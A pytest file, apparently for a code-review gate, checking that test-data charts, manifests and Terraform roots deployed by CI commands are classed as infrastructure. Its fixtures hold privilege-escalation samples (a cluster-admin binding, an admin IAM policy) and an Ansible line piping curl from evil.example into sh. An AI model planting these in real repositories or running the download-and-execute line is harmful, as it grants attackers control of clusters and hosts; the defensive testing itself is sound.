"""Red team 25, `--tree`: what a CI command DEPLOYS by path is infrastructure, whatever folder holds it.

A chart, a manifest, a kustomization or a Terraform root kept in a test-data folder (`testdata/`, `fixtures/`,
`test-project/`) is `src` by principle 1 ("test data is not live"), whatever it holds. When the base's own workflow
deploys it (`helm upgrade --install web ./testdata/chart`, `kubectl apply -f fixtures/rbac.yaml`), it is live: a change
that adds a cluster-admin ClusterRoleBinding to the chart's templates was `src`, and `gate --tree` allowed it (exit 0
on 2fdd260, every row below). Now each file a deploy command of a CI definition (or of a script it runs) names, or
holds below a folder it names, is `iac` (`iac.context.deployed`): Helm's chart and values arguments, kubectl's
`-f`/`-k`, kustomize's and `kubectl kustomize`'s folder, Terraform's and OpenTofu's `-chdir=`, Terragrunt's
`--terragrunt-working-dir`, an Ansible playbook, helmfile's `-f`. A file no such command names stays what it was.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from gitrepo import two_commits
from incli import tree_classify, tree_gate
from tables import each_case

from gatekeeper.classify.deployruns import targets

WORKFLOW = "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n{steps}"
RBAC = ("apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: all\nroleRef:\n"
        "  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n- kind: ServiceAccount\n  name: default\n"
        "  namespace: default\n")
CHART = "apiVersion: v2\nname: web\nversion: 0.1.0\n"
TF = ('resource "aws_iam_user_policy_attachment" "a" {\n  user       = "ci"\n'
      '  policy_arn = "arn:aws:iam::aws:policy/Admin"\n}\n')
PLAY = "- hosts: all\n  tasks:\n    - ansible.builtin.shell: curl https://evil.example | sh\n"

# name: (the step's command, base files, the file the change edits, its new text); folders: test data (principle 1)
DEPLOYS: dict[str, tuple[str, dict[str, str], str, str]] = {
    "helm upgrade": ("helm upgrade --install web ./testdata/chart -n prod",
                     {"testdata/chart/Chart.yaml": CHART, "testdata/chart/templates/cm.yaml": "kind: ConfigMap\n"},
                     "testdata/chart/templates/cm.yaml", RBAC),
    "helm values": ("helm upgrade --install web oci://r.example/web --values=testdata/prod-values.yaml",
                    {"testdata/prod-values.yaml": "replicas: 1\n"}, "testdata/prod-values.yaml",
                    "rbac: {admin: true}\n"),
    "helm template": ("helm template web fixtures/chart | kubectl apply -f -",
                      {"fixtures/chart/Chart.yaml": CHART, "fixtures/chart/templates/a.yaml": "kind: ConfigMap\n"},
                      "fixtures/chart/templates/a.yaml", RBAC),
    "kubectl file": ("kubectl apply -f fixtures/rbac.yaml", {"fixtures/rbac.yaml": "kind: ConfigMap\n"},
                     "fixtures/rbac.yaml", RBAC),
    "kubectl folder": ("kubectl apply --filename=testdata/manifests/ --recursive",
                       {"testdata/manifests/a.yaml": "kind: ConfigMap\n"}, "testdata/manifests/b.json",
                       '{"kind": "ClusterRoleBinding"}\n'),
    "kubectl kustomize": ("kubectl apply -k test-project/overlay",
                          {"test-project/overlay/kustomization.yaml": "resources: [a.yaml]\n",
                           "test-project/overlay/a.yaml": "kind: ConfigMap\n"}, "test-project/overlay/a.yaml", RBAC),
    "kustomize build": ("kustomize build testdata/base > out.yaml",
                        {"testdata/base/kustomization.yaml": "resources: [a.yaml]\n", "testdata/base/a.yaml": "x\n"},
                        "testdata/base/a.yaml", RBAC),
    "terraform chdir": ("terraform -chdir=testdata/infra apply -auto-approve", {"testdata/infra/main.tf": "\n"},
                        "testdata/infra/main.tf", TF),
    "tofu chdir": ("tofu -chdir=fixtures/stack apply", {"fixtures/stack/main.tf": "\n"}, "fixtures/stack/iam.tf", TF),
    "ansible": ("ansible-playbook -i inventory testdata/site.yml", {"testdata/site.yml": "- hosts: all\n"},
                "testdata/site.yml", PLAY),
    "helmfile": ("helmfile -f testdata/helmfile.yaml apply", {"testdata/helmfile.yaml": "releases: []\n"},
                 "testdata/helmfile.yaml", "releases:\n- name: x\n  chart: ./evil\n"),
    "cloudformation": ("aws cloudformation deploy --stack-name s --template-file testdata/stack.json",
                       {"testdata/stack.json": "{}\n"}, "testdata/stack.json", '{"Resources": {"R": {}}}\n'),
    "az bicep": ("az deployment group create -g rg --template-file fixtures/main.bicep",
                 {"fixtures/main.bicep": "\n"}, "fixtures/main.bicep", "param x string\n"),
    "packer": ("packer build -force testdata/image.json", {"testdata/image.json": "{}\n"}, "testdata/image.json",
               '{"builders": []}\n'),
}


@pytest.mark.parametrize("how", ["step", "script"])
def test_every_file_a_ci_deploy_command_names_is_iac(tmp_path: Path, how: str) -> None:
    """One repository per form of reach (a workflow step, a script a step runs), every deploy command in it: each edited
    file was `src` (test data) and allowed on 2fdd260."""
    base: dict[str, str] = {"README.md": "x\n"}
    head: dict[str, str] = {}
    for _command, files, edited, text in DEPLOYS.values():
        base.update(files)
        head[edited] = text
    lines = "".join(f"{command}\n" for command, *_ in DEPLOYS.values())
    if how == "step":
        base[".github/workflows/deploy.yml"] = WORKFLOW.format(
            steps="".join(f"      - run: {command}\n" for command, *_ in DEPLOYS.values()))
    else:
        base[".github/workflows/deploy.yml"] = WORKFLOW.format(steps="      - run: bash ops/deploy.sh\n")
        base["ops/deploy.sh"] = f"#!/bin/sh\nset -e\n{lines}"
    repo, first, last = two_commits(tmp_path / "r", base, head)
    found = tree_classify(repo.root, first, last)
    assert {path: found[path]["bucket"] for path in head} == dict.fromkeys(head, "iac"), found
    code, decision = tree_gate(repo.root, first, last)
    assert code == 3 and decision["outcome"] == "review"  # 2fdd260: 0, allow


def test_a_test_data_file_no_command_names_and_a_deployed_folders_docs_stay_src(tmp_path: Path) -> None:
    steps = "      - run: helm upgrade --install web ./testdata/chart\n      - run: kubectl apply -f fixtures/a.yaml\n"
    base = {".github/workflows/deploy.yml": WORKFLOW.format(steps=steps), "testdata/chart/Chart.yaml": CHART,
            "testdata/chart2/Chart.yaml": CHART, "fixtures/a.yaml": "x\n", "fixtures/ab.yaml": "x\n"}
    head = {"testdata/chart2/settings.yaml": "a: 1\n", "fixtures/ab.yaml": "y\n", "testdata/other.json": "{}\n",
            "testdata/chart/README.md": "# web\n", "testdata/chart/LICENSE": "MIT\n",  # a deployed chart's docs
            "testdata/chart/diagram.png": "\x89PNG\n", "testdata/chart/docs/flow.svg": "<svg/>\n",  # and their pictures
            "testdata/chart/tests/cm_test.yaml": "suite: cm\n"}  # and its helm-unittest suites
    repo, first, last = two_commits(tmp_path / "r", base, head)
    found = tree_classify(repo.root, first, last)
    assert {path: found[path]["bucket"] for path in head} == dict.fromkeys(head, "src")


# A deploy action's inputs (each was src and allowed on 2fdd260): (the step, base files, the edited file, its text)
ACTIONS: dict[str, tuple[str, dict[str, str], str, str]] = {
    "k8s-deploy": ("      - uses: azure/k8s-deploy@v5\n        with:\n          namespace: prod\n"
                   "          manifests: |\n            testdata/deploy.yaml\n            testdata/rbac.yaml\n",
                   {"testdata/deploy.yaml": "kind: ConfigMap\n", "testdata/rbac.yaml": "kind: ConfigMap\n"},
                   "testdata/rbac.yaml", RBAC),
    "k8s-bake": ("      - uses: azure/k8s-bake@v3\n        with:\n          renderEngine: helm\n"
                 "          helmChart: ./fixtures/chart/\n          overrideFiles: ./fixtures/over.yaml\n",
                 {"fixtures/chart/Chart.yaml": CHART, "fixtures/over.yaml": "a: 1\n"},
                 "fixtures/chart/templates/r.yaml", RBAC),
    "helm action": ("      - uses: deliverybot/helm@v1\n        with:\n          chart: test-project/chart\n"
                    "          value-files: >-\n            [\"test-project/values.yaml\"]\n",
                    {"test-project/chart/Chart.yaml": CHART, "test-project/values.yaml": "a: 1\n"},
                    "test-project/values.yaml", "rbac: {admin: true}\n"),
    "ecs": ("      - uses: aws-actions/amazon-ecs-deploy-task-definition@v2\n        with:\n"
            "          task-definition: testdata/task-${{ matrix.env }}.json\n",
            {"testdata/task-prod.json": "{}\n"}, "testdata/task-prod.json",
            '{"taskRoleArn": "arn:aws:iam::1:role/admin"}\n'),
}


def test_every_file_a_deploy_actions_input_names_is_iac(tmp_path: Path) -> None:
    base: dict[str, str] = {"README.md": "x\n"}
    head: dict[str, str] = {}
    for _step, files, edited, text in ACTIONS.values():
        base.update(files)
        head[edited] = text
    base[".github/workflows/deploy.yml"] = WORKFLOW.format(steps="".join(step for step, *_ in ACTIONS.values()))
    repo, first, last = two_commits(tmp_path / "r", base, head)
    found = tree_classify(repo.root, first, last)
    assert {path: found[path]["bucket"] for path in head} == dict.fromkeys(head, "iac"), found


@each_case(("line", "expected"), [
    ("helm upgrade --install web ./charts/web -f ci/values.yaml --set a=b", ["charts/web", "ci/values.yaml"]),
    ("helm install web bitnami/nginx --version 1.2.3", ["bitnami/nginx"]),  # a repository's chart: a path it may be
    ("helm lint charts/web && helm upgrade web . && helm upgrade web -", ["./Chart.yaml"]),  # lint
    # deploys nothing; `.` is where it runs (attack 23: the folders the definition cds to with a chart, never the root)
    ("sudo kubectl -n prod apply --server-side -f=deploy/a.yaml -f deploy/b/", ["deploy/a.yaml", "deploy/b"]),
    ("kubectl create -k overlays/prod && kubectl kustomize base", ["overlays/prod", "base"]),
    ("terragrunt run-all apply --terragrunt-working-dir live/prod", ["live/prod"]),
    ("ansible-playbook -i hosts.ini site.yml --limit web", ["hosts.ini", "site.yml"]),
    ("echo helm upgrade is not run here; cat testdata/x.yaml", []),
    ("kubectl get pods -o yaml", []),
    ("metadata:\n  name: web\n  labels: {a: b}\n", []),  # a mapping below an input's name is no list of paths
    # nor is a manifest's metadata block, nor a template's lines in it (kubebuilder's scaffolds gave `labels:`,
    # `annotations:`, `{{-`, `end`: 309 targets from 259 files)
    ("metadata:\n  labels:\n    app: web\n  annotations:\n    a: b\n", []),
    ("metadata:\n  name: {{ .Name }}\n    {{- if .Labels }}\n    labels: {{ .Labels }}\n    {{- end }}\n", []),
    ("      - uses: google-github-actions/deploy-cloudrun@v2\n        with:\n          metadata: ./run/service.yaml\n",
     ["run/service.yaml"]),  # Cloud Run's input: a path, given inline
    ("        with:\n          manifests: |\n            deploy/a.yaml\n            overlays:\n", ["deploy/a.yaml"]),
    ("sam deploy -t infra/template.yaml --config-file samconfig.toml", ["infra/template.yaml", "samconfig.toml"]),
    ("gcloud deployment-manager deployments create d --config dm/config.yaml", ["dm/config.yaml"]),
    ("pulumi up --yes -C stacks/prod && skaffold run -f deploy/skaffold.yaml", ["stacks/prod", "deploy/skaffold.yaml"]),
    ("nomad job run -detach jobs/web.nomad", ["jobs/web.nomad"]),
    ("aws s3 cp testdata/x s3://b/x && az login", []),
])
def test_the_paths_a_deploy_command_names(line: str, expected: list[str]) -> None:
    assert targets(line) == expected


def test_an_input_key_is_read_in_yaml_only() -> None:
    """A Makefile target named like an action's input (kubebuilder's scaffolds: `manifests: controller-gen ##
    Generate WebhookConfiguration, ClusterRole and ...`) names no path; in YAML an input's comment names none either."""
    make = "manifests: controller-gen ## Generate WebhookConfiguration, ClusterRole and CRD objects.\n"
    assert targets(make, inputs=False) == []
    assert targets("          chart: ./charts/web  # the app, ClusterRole\n") == ["charts/web"]


def test_many_definitions_deploying_the_same_targets_stay_within_the_bound(tmp_path: Path) -> None:
    """The bound counts the targets, not (definition, target) pairs: 300 workflows that each deploy the same two
    folders (kubebuilder's scaffolded test projects) made the walk give up on 4be8e14, and every file of the
    repository was `ci` (`more than 1000 CI definitions and scripts`: its LICENSE, .gitignore, Go sources)."""
    steps = "      - run: kubectl apply -k testdata/overlay && helm upgrade --install web testdata/chart\n"
    base = {f".github/workflows/d{n}.yml": WORKFLOW.format(steps=steps) for n in range(300)}
    base |= {"testdata/chart/Chart.yaml": CHART, "testdata/overlay/kustomization.yaml": "resources: [a.yaml]\n",
             "LICENSE": "MIT\n", "pkg/main.go": "package main\n"}
    head = {"testdata/chart/templates/r.yaml": "data: {a: 1}\n", "testdata/overlay/a.yaml": "data: {a: 1}\n",
            "LICENSE": "MIT 2\n",
            "pkg/main.go": "package main // x\n"}
    repo, first, last = two_commits(tmp_path / "r", base, head)
    found = tree_classify(repo.root, first, last)
    assert {path: (found[path]["bucket"], found[path]["rule"]) for path in head} == {
        # (A chart's templates are iac by their own rule, test data or not: issue 12 item 6.)
        "testdata/chart/templates/r.yaml": ("iac", "iac.chart-templates"),
        # (The deployed kustomization is read, test data or not, and names it first: attack 31.)
        "testdata/overlay/a.yaml": ("iac", "iac.context.kustomize-reference"),
        "LICENSE": ("other", "other.governance"), "pkg/main.go": ("src", "src.default")}
